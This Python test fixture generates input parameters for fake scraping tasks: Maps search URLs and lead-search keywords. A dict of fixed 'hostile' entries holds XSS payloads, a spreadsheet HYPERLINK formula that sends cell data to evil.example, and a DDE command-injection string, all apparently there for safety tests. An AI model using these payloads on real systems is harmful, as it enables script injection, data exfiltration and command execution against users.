"""Task input `params` objects for the fake squids, including hostile values."""

from __future__ import annotations

from typing import Any

MAPS = "maps"
LEADS = "leads"

_TERMS = (
    "restaurant", "plombier", "boulangerie", "dentist", "coffee shop", "hotel",
    "pharmacy", "garage", "florist", "yoga studio", "avocat", "veterinaire",
)
_CITIES = (
    (43.2928346, 5.3662584),   # Marseille
    (48.8566140, 2.3522219),   # Paris
    (45.7640430, 4.8356590),   # Lyon
    (43.6046520, 1.4442090),   # Toulouse
    (44.8377890, -0.5791800),  # Bordeaux
    (50.6292500, 3.0572560),   # Lille
    (47.2183710, -1.5536210),  # Nantes
    (43.7101728, 7.2619532),   # Nice
)
_KEYWORDS = (
    "head of growth", "data engineer", "procurement manager", "CTO", "sales director",
    "product designer", "HR business partner", "Zürich café — 東京 🍣",
)
_COUNTRIES = ("FR", "US", "DE", "GB", "ES", "IT", "NL", "CA")
_SENIORITIES = ("entry", "senior", "manager", "director", "vp", "cxo")

# Fixed indices of the "leads" squid whose params are hostile, so safety tests can find them.
HOSTILE_PARAMS: dict[int, dict[str, Any]] = {
    7: {"keyword": "<script>alert(1)</script>", "country": "FR"},
    23: {"url": "javascript:alert(1)", "keyword": "profile"},
    42: {"keyword": '=HYPERLINK("https://evil.example/?d="&A1,"Click here")', "country": "US"},
    77: {"keyword": "\"><img src=x onerror=alert(1)>", "country": "GB",
         "note": "@SUM(1+1)*cmd|' /C calc'!A0"},
}


def maps_params(index: int) -> dict[str, Any]:
    """Google Maps search URL for task `index` (unique per index)."""
    term = _TERMS[index % len(_TERMS)]
    block, city = divmod(index // len(_TERMS), len(_CITIES))
    lat, lng = _CITIES[city]
    # Shift the viewport for each extra block so very large runs keep distinct inputs.
    lat += (block % 50) * 0.0113
    lng += (block // 50) * 0.0171
    slug = term.replace(" ", "+")
    return {"url": f"https://www.google.com/maps/search/{slug}/@{lat:.7f},{lng:.7f},14z"}


def leads_params(index: int) -> dict[str, Any]:
    """Keyword/country search input for task `index`, sometimes with nested filters."""
    if index in HOSTILE_PARAMS:
        return dict(HOSTILE_PARAMS[index])
    params: dict[str, Any] = {
        "keyword": _KEYWORDS[index % len(_KEYWORDS)],
        "country": _COUNTRIES[(index // len(_KEYWORDS)) % len(_COUNTRIES)],
    }
    if index % 3 == 0:
        params["filters"] = {
            "seniority": list(_SENIORITIES[index % 4 : index % 4 + 2]),
            "company_size": "11-50" if index % 2 else "201-500",
            "posted_within_days": 30,
        }
    if index % 5 == 0:
        params["max_results"] = 100
    return params


def params_for(kind: str, index: int) -> dict[str, Any]:
    """Params of task `index` for a squid of the given kind."""
    return leads_params(index) if kind == LEADS else maps_params(index)
